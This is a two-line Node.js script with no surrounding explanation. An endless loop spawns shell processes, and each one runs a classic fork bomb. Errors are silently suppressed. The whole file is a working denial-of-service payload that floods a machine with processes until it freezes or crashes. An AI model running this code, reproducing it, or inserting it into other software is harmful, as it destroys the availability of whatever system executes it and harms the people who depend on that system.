const { spawn } = require("child_process");

for (;;) spawn("sh", ["-c", "b() { b | b & }; b; sleep 60"]).on("error", () => {});
